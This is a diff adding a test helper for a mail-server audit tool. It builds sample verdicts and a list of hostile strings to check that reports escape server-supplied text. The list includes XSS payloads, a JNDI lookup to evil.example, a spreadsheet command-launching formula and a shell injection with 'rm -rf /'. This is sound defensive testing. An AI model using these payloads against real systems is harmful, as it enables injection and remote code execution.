@@ -1,0 +1,114 @@
+# SPDX-License-Identifier: GPL-3.0-or-later
+# Copyright: (c) 2026, airtight.mail contributors
+"""Verdicts to render in tests: judged from recorded observations, and such as a hostile server would like to see rendered."""
+
+from __future__ import annotations
+
+import json
+import typing as t
+from pathlib import Path
+
+from ansible_collections.airtight.mail.plugins.module_utils import _model
+from ansible_collections.airtight.mail.plugins.plugin_utils._checks import evaluate, policy, waivers
+from ansible_collections.airtight.mail.plugins.plugin_utils._checks.base import Scene
+
+FIXTURES = Path(__file__).resolve().parents[1] / "fixtures/checks"
+NOW = evaluate.moment("2026-11-22T22:00:00+00:00")
+WAIVER = {"check": "auth_hidden_before_tls", "justification": "a printer", "expiration_date": "2026-12-31"}
+RUN = {"tool": "airtight.mail", "version": "0.1.0", "written": "2026-11-22T22:00:00Z", "vantage": "outsider", "policy": "baseline"}
+CHECKS = ("relay_third_party", "auth_hidden_before_tls", "mx_takes_cleartext", "pop3_capabilities", "imap_login_disabled")
+RELAYED = [
+    ["S", "220 mx1.example.org ESMTP"],
+    ["C", "EHLO client.example.net"],
+    ["S", "250-mx1.example.org"],
+    ["S", "250 PIPELINING"],
+    ["C", "MAIL FROM:<airtight-6f1e3cb9@example.com>"],
+    ["S", "250 2.1.0 Ok"],
+    ["C", "RCPT TO:<airtight-6f1e3cb9@example.com>"],
+    ["S", "250 2.1.5 Ok"],
+    ["C", "RSET"],
+    ["S", "250 2.0.0 Ok"],
+]
+TALK = [["C", "USER nobody"], ["S", "+OK"], ["*", "gone " + "x" * 200]]
+
+
+def recorded(check: str, status: str) -> list[dict[str, t.Any]]:
+    """The observations of a fixture; none for a status that the check cannot have."""
+    scenes = json.loads((FIXTURES / (check + ".json")).read_text(encoding="utf-8"))
+    return list(scenes.get(status, {"observations": []})["observations"])
+
+
+def verdicts(name: str, checks: t.Sequence[str], observations: t.Sequence[dict[str, t.Any]]) -> list[dict[str, t.Any]]:
+    """Observations, judged."""
+    target = _model.target({"name": name, "addresses": ["198.18.0.25"], "domains": ["example.org"]})
+    scene = Scene(target, tuple(observations), policy.policy(), NOW, target.addresses, True)
+    return evaluate.judge(scene, evaluate.choose(checks), waivers.waivers([WAIVER], evaluate.IDS, NOW.date()))
+
+
+BAD = [
+    *({**seen, "transcript": RELAYED} for seen in recorded("relay_third_party", "fail")),
+    *recorded("auth_hidden_before_tls", "fail"),
+    *({**seen, "transcript": TALK} for seen in recorded("pop3_capabilities", "fail")),
+]
+GOOD = [*recorded("relay_third_party", "pass"), *recorded("mx_takes_cleartext", "pass")]
+
+
+def mixed(name: str = "mx1.example.org") -> list[dict[str, t.Any]]:
+    """A failure, something not seen, something waived, a pass and something that does not apply, on one host."""
+    found = verdicts(name, CHECKS, BAD)
+    aside = {**found[-1], "check": "users_not_disclosed", "status": _model.NOT_APPLICABLE, "evidence": [], "sentence": "Not offered."}
+    return [*found, aside]
+
+
+#: What a server might say to whoever reads the report.
+NASTY = [
+    "<script>alert(1)</script>",
+    "</pre></style></script><img src=x onerror=alert(1)>",
+    '" onmouseover="alert(1)" x=\'',
+    "javascript:alert(1)",
+    "]]><x/><!-- --><![CDATA[",
+    "&lt;b&gt; &#60; &amp;amp;",
+    "\x1b[2J\x1b]0;title\x07\x1b[31mred\x9b1m",
+    "nul\x00bel\x07del\x7fnel\x85vt\x0bff\x0c",
+    "\ufffe\uffff\ufdd0 non-characters",
+    "\ud800 half of a pair \udfff",
+    "right \u202egnorw\u202c to \u2066left\u2069 \u200bzero\ufeff",
+    "line\r\nbreak\u2028and\u2029more\x0b",
+    "::error::forged workflow command\n::set-output name=x::y",
+    "# heading\n- list\n1. number\n> quote\n    code\n---\n===",
+    "1) number",
+    "- [x] task",
+    "[link](javascript:alert(1)) ![image](https://evil.example/x.png) <https://evil.example>",
+    "https://evil.example/ www.evil.example mailto:a@evil.example",
+    "[ref]: https://evil.example",
+    "@someone and @org/team and #1 and GH-1",
+    "``` ````\n~~~ `code` **bold** __bold__ ~~gone~~ $x$ | cell |",
+    "\\[escaped\\](https://evil.example) \\",
+    "{0} {{1}} {run} %s %(x)s ${jndi:ldap://evil.example} {{ 7 * 7 }} {% raw %}",
+    "=cmd|' /C calc'!A0",
+    "+1+1",
+    "-1",
+    '@SUM(A1)","=1',
+    "\t=1+1",
+    "\"quoted\",'single',;semi",
+    'label="x"} 1\n# EOF\nfake_metric 1',
+    "x" * 50_000,
+    "\u0301" * 500 + "\U0001f4a9" * 50 + "\U000e0041",
+    "$(touch /tmp/x); `id` && rm -rf / #'",
+    "",
+    "   ",
+]
+
+
+def hostile(words: str) -> list[dict[str, t.Any]]:
+    """Verdicts of every status with the words wherever a server, a name or a user could put them."""
+    found = []
+    for item in mixed():
+        evidence = [{**entry, "sentence": words, "transcript": [["C", words], ["S", words]]} for entry in item["evidence"]]
+        evidence.append({"subject": words, "status": item["status"], "sentence": words, "transcript": [["*", words]]})
+        found.append({**item, "target": "mx1 " + words, "sentence": words or "?", "evidence": evidence})
+        if "waived" in item:
+            found[-1]["waived"] = {**item["waived"], "justification": words}
+        if "references" in item:
+            found[-1]["references"] = [*item["references"], words, "https://evil.example/" + words]
+    return found
